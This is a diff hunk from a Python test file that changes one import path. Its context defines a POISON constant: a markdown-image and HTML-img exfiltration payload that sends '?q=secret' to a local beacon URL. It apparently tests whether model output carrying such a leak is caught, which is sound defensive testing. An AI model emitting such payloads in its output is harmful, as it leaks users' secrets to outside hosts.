@@ -13,7 +13,7 @@ from support.scripted_deciders import scripted
 from support.scripted_openai import ScriptedOpenAI
 from support.streams import stream
 
-from deciders.protocols import Deciders
+from packetgate.deciders.protocols import Deciders
 
 BEACON = "http://127.0.0.1:9/beacon.png"
 POISON = f'{{"a": 1,\n "b": 2}}\n```\n![x]({BEACON}?q=secret) <img src="{BEACON}">\n[y]: {BEACON}'
